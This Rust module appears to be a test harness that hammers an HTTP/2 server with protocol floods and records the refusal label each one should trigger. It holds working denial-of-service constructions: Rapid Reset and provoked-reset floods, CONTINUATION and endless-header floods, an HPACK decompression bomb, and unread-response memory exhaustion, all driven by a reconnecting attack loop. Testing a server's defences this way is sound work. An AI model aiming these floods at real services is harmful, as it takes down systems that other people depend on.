//! Floods of HTTP/2: what a hostile client says, again and again, on one connection after another.

use std::io::{Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use crate::frames::{PREFACE, block, flag, frame, get, kind};

/// How long a client that floods waits for room. Who is not listened to any more starts anew.
const PATIENCE: Duration = Duration::from_millis(500);
/// Pieces that are sent in one write.
const AT_ONCE: u32 = 50;
/// Pieces on one connection: more than any limit.
const MOST_PIECES: u32 = 1_000_000;

/// What is asked for where the answer is to take a while.
pub const SLOW: &str = "/slow?wait=5000";

/// What is said on one connection.
#[derive(Debug)]
pub struct Flood {
    pub name: &'static str,
    /// The same for people.
    pub what: &'static str,
    /// By which reason it is counted when it is refused; `None`: every piece is allowed, and what
    /// they cost has a bound.
    pub label: Option<&'static str>,
    /// The bytes before all pieces, behind the preface and empty settings.
    opening: fn() -> Vec<u8>,
    /// The bytes of each piece, by its number.
    piece: fn(u32) -> Vec<u8>,
    /// Pieces until the client only waits.
    most: u32,
    /// The client reads what it is answered.
    reads: bool,
}

const FLOOD: Flood = Flood {
    name: "",
    what: "",
    label: None,
    opening: Vec::new,
    piece: |_| Vec::new(),
    most: MOST_PIECES,
    reads: true,
};

pub const PINGS: Flood = Flood {
    name: "h2-pings",
    what: "PING",
    label: Some("h2-ping-flood"),
    piece: |_| ping(),
    ..FLOOD
};
pub const UNREAD_PINGS: Flood = Flood {
    name: "h2-unread-pings",
    what: "PING, of which nobody reads the answers",
    reads: false,
    ..PINGS
};
pub const SETTINGS: Flood = Flood {
    name: "h2-settings",
    what: "SETTINGS",
    label: Some("h2-settings-flood"),
    piece: |_| frame(kind::SETTINGS, 0, 0, &[]),
    ..FLOOD
};
pub const PRIORITIES: Flood = Flood {
    name: "h2-priorities",
    what: "PRIORITY",
    label: Some("h2-idle-frame-flood"),
    piece: |_| frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
    ..FLOOD
};
pub const UNKNOWN: Flood = Flood {
    name: "h2-unknown",
    what: "frames of a type that is not known",
    label: Some("h2-idle-frame-flood"),
    piece: |_| frame(0x77, 0, 0, &[1, 2, 3]),
    ..FLOOD
};
pub const EMPTY_DATA: Flood = Flood {
    name: "h2-empty-data",
    what: "DATA without a byte",
    label: Some("h2-empty-data-flood"),
    opening: || head(0, 1, SLOW),
    piece: |_| frame(kind::DATA, 0, 1, &[]),
    ..FLOOD
};
/// CVE-2023-44487.
pub const RESETS: Flood = Flood {
    name: "h2-resets",
    what: "requests that are reset at once",
    label: Some("h2-reset-flood"),
    piece: |at| {
        let reset = frame(kind::RST_STREAM, 0, odd(at), &[0, 0, 0, 8]);
        [head(flag::END_STREAM, odd(at), SLOW), reset].concat()
    },
    ..FLOOD
};
/// CVE-2025-8671.
pub const PROVOKED_RESETS: Flood = Flood {
    name: "h2-provoked-resets",
    what: "requests whose windows are widened by nothing",
    label: Some("h2-error-flood"),
    piece: |at| {
        let nothing = frame(kind::WINDOW_UPDATE, 0, odd(at), &[0; 4]);
        [head(flag::END_STREAM, odd(at), SLOW), nothing].concat()
    },
    ..FLOOD
};
/// CVE-2024-27316.
pub const CONTINUATIONS: Flood = Flood {
    name: "h2-continuations",
    what: "CONTINUATION without a byte",
    label: Some("h2-continuation-flood"),
    opening: begun,
    piece: |_| frame(kind::CONTINUATION, 0, 1, &[]),
    ..FLOOD
};
pub const ENDLESS_HEAD: Flood = Flood {
    name: "h2-endless-head",
    what: "CONTINUATION of 8,000 bytes without end",
    label: Some("h2-continuation-flood"),
    opening: begun,
    piece: |_| frame(kind::CONTINUATION, 0, 1, &block(&[("x-more", &"x".repeat(8_000))])),
    ..FLOOD
};
/// One field of 3,000 bytes, put into the table (RFC 7541 §6.2.1), and 4,000 times its number (§6.1).
pub const UNPACKED: Flood = Flood {
    name: "h2-unpacked",
    what: "heads of 7,000 bytes that mean 12 million",
    label: Some("h2-error-flood"),
    piece: |at| {
        let mut fields = block(&get("/"));
        let mut entry = block(&[("x-bomb", &"v".repeat(3_000))]);
        entry[0] = 0x40;
        fields.extend(entry);
        fields.extend([0x80 | 0x3e; 4_000]);
        frame(kind::HEADERS, flag::END_STREAM | flag::END_HEADERS, odd(at), &fields)
    },
    ..FLOOD
};
pub const TOO_MANY: Flood = Flood {
    name: "h2-too-many",
    what: "requests beyond those that are allowed at once",
    label: Some("h2-refused-flood"),
    piece: |at| head(flag::END_STREAM, odd(at), SLOW),
    ..FLOOD
};
pub const WINDOWS: Flood = Flood {
    name: "h2-windows",
    what: "WINDOW_UPDATE by one byte",
    piece: |_| frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
    ..FLOOD
};
pub const GOODBYES: Flood = Flood {
    name: "h2-goodbyes",
    what: "GOAWAY",
    label: Some("h2-idle-frame-flood"),
    piece: |_| frame(kind::GOAWAY, 0, 0, &[0; 8]),
    ..FLOOD
};
pub const CLOSED_WINDOWS: Flood = Flood {
    name: "h2-closed-windows",
    what: "100 answers of 1 MB each, for which there is never any room",
    opening: || frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
    piece: |at| head(flag::END_STREAM, odd(at), "/?size=1000000"),
    most: 100,
    ..FLOOD
};
pub const UNREAD_ANSWERS: Flood = Flood {
    name: "h2-unread-answers",
    what: "100 answers of 1 MB each, of which nobody reads any",
    opening: || {
        let widest = 0x7fff_ffff_u32.to_be_bytes();
        let settings = [&[0, 4][..], &widest].concat();
        let more = (0x7fff_ffff_u32 - 0xffff).to_be_bytes();
        [frame(kind::SETTINGS, 0, 0, &settings), frame(kind::WINDOW_UPDATE, 0, 0, &more)].concat()
    },
    reads: false,
    ..CLOSED_WINDOWS
};

/// Those that are told to calm down.
pub const REFUSED: [&Flood; 13] = [
    &PINGS,
    &UNREAD_PINGS,
    &SETTINGS,
    &PRIORITIES,
    &UNKNOWN,
    &EMPTY_DATA,
    &RESETS,
    &PROVOKED_RESETS,
    &CONTINUATIONS,
    &ENDLESS_HEAD,
    &UNPACKED,
    &TOO_MANY,
    &GOODBYES,
];

impl Flood {
    /// What is said first, and then so many pieces.
    pub fn bytes(&self, pieces: u32) -> Vec<u8> {
        let mut bytes = (self.opening)();
        (0..pieces).for_each(|at| bytes.extend((self.piece)(at)));
        bytes
    }

    /// Floods, on one connection after another, until `stop`. Returns how many there were.
    pub fn rage(&self, address: SocketAddr, stop: &AtomicBool) -> u64 {
        let mut connections = 0;
        while !stop.load(Ordering::Relaxed) {
            connections += u64::from(self.rage_once(address, stop).is_ok());
        }
        connections
    }

    /// The error is that there was no connection to flood.
    fn rage_once(&self, address: SocketAddr, stop: &AtomicBool) -> std::io::Result<()> {
        let mut socket = TcpStream::connect_timeout(&address, PATIENCE)?;
        socket.set_write_timeout(Some(PATIENCE))?;
        socket.set_read_timeout(Some(PATIENCE))?;
        let mut listening = socket.try_clone()?;
        thread::scope(|scope| {
            scope.spawn(|| {
                let mut unheard = [0; 16 * 1024];
                while self.reads && matches!(listening.read(&mut unheard), Ok(1..)) {}
            });
            // Whoever is let go begins anew.
            let _ = self.say_all(&mut socket, stop);
            let _ = socket.shutdown(Shutdown::Both);
        });
        Ok(())
    }

    fn say_all(&self, socket: &mut TcpStream, stop: &AtomicBool) -> std::io::Result<()> {
        socket.write_all(PREFACE)?;
        socket.write_all(&frame(kind::SETTINGS, 0, 0, &[]))?;
        socket.write_all(&(self.opening)())?;
        let mut at = 0;
        while at < self.most && !stop.load(Ordering::Relaxed) {
            let next = (at + AT_ONCE).min(self.most);
            let pieces: Vec<u8> = (at..next).flat_map(self.piece).collect();
            socket.write_all(&pieces)?;
            at = next;
        }
        // Whoever has said all holds on to what it has, until it is let go.
        while !stop.load(Ordering::Relaxed) && !is_over(socket) {}
        Ok(())
    }
}

/// The other side has ended the connection; after a while `false`.
fn is_over(socket: &TcpStream) -> bool {
    match socket.peek(&mut [0]) {
        Ok(0) => true,
        Ok(_) => {
            thread::park_timeout(Duration::from_millis(10)); // wait: nobody reads what has come
            false
        }
        Err(error) => {
            let in_vain = [std::io::ErrorKind::WouldBlock, std::io::ErrorKind::TimedOut];
            !in_vain.contains(&error.kind())
        }
    }
}

fn ping() -> Vec<u8> {
    frame(kind::PING, 0, 0, &[0; 8])
}

/// The stream of a client's request, by how many came before.
fn odd(at: u32) -> u32 {
    2 * at + 1
}

fn head(flags: u8, stream: u32, path: &str) -> Vec<u8> {
    frame(kind::HEADERS, flags | flag::END_HEADERS, stream, &block(&get(path)))
}

/// A head whose end does not come.
fn begun() -> Vec<u8> {
    frame(kind::HEADERS, flag::END_STREAM, 1, &block(&get("/")))
}
